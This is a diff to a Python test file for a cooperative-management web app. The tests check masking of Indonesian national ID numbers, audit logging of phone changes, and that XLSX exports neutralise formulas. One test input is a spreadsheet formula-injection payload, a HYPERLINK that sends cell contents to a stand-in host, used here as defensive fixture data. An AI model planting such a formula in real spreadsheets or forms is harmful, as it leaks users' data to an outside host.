@@ -19,7 +19,8 @@ def member_of(sysdb, code=OWN):
 def test_nik_is_normalised_from_spaces_and_full_width_digits_and_masked():
     assert normalise_nik("３１７３ ０５１２-０１９０.０００９") == "3173051201900009"
     assert check_nik(" 3173 0512 0190 0009 ") == "3173051201900009"
-    assert mask_nik("3273050101900009") == "327305••••••0009"
+    # the serial only: the region is near the domicile shown beside it, the middle six are the birth date
+    assert mask_nik("3273050101900009") == "••••••••••••0009"
 
 
 def test_lists_and_show_pages_mask_the_nik_for_every_role(login, sysdb):
@@ -72,7 +73,7 @@ def test_every_change_is_audited_with_before_and_after_and_the_nik_masked(login,
                                                  AuditEvent.record_id == str(m.id), AuditEvent.action == "update")
                          .order_by(AuditEvent.id.desc()))
     assert event.username == "sekretaris.kebonjeruk"
-    assert '"phone": "0812-1111-2222"' in event.after and '"phone": null' in event.before
+    assert '"phone": "+6281211112222"' in event.after and '"phone": null' in event.before
     assert event.cooperative_id == m.cooperative_id
     # Audit timestamps are UTC and close to now.
     from datetime import datetime, timezone
@@ -132,7 +133,7 @@ def test_exports_mask_the_nik_and_never_carry_formulas(login, sysdb):
     s = login("sekretaris.kebonjeruk")
     form = {"organ": m.organ, "position": m.position, "name": '=HYPERLINK("http://x.example/?"&A1,"klik")',
             "nik": "", "gender": m.gender, "term_start": m.term_start.isoformat(),
-            "term_end": m.term_end.isoformat(), "phone": "+62 812 3456"}
+            "term_end": m.term_end.isoformat(), "phone": "+62 812 3456 7890"}
     assert s.post(f"/pengurus-pengawas/edit/{m.id}", form).status_code == 302
     r = s.get("/pengurus-pengawas/export/xlsx")
     assert r.status_code == 200
@@ -140,6 +141,7 @@ def test_exports_mask_the_nik_and_never_carry_formulas(login, sysdb):
     cells = [c for row in wb.active.iter_rows() for c in row if c.value is not None]
     texts = [str(c.value) for c in cells]
     assert m.nik not in "\n".join(texts) and mask_nik(m.nik) in texts
+    # A text cell is never evaluated, so it reads back exactly as typed (no apostrophe: that is CSV's guard).
     hyperlink = [c for c in cells if "HYPERLINK" in str(c.value)][0]
-    assert hyperlink.data_type == "s" and str(hyperlink.value).startswith("'=")
+    assert hyperlink.data_type == "s" and hyperlink.value == form["name"]
     assert all(c.data_type != "f" for c in cells)
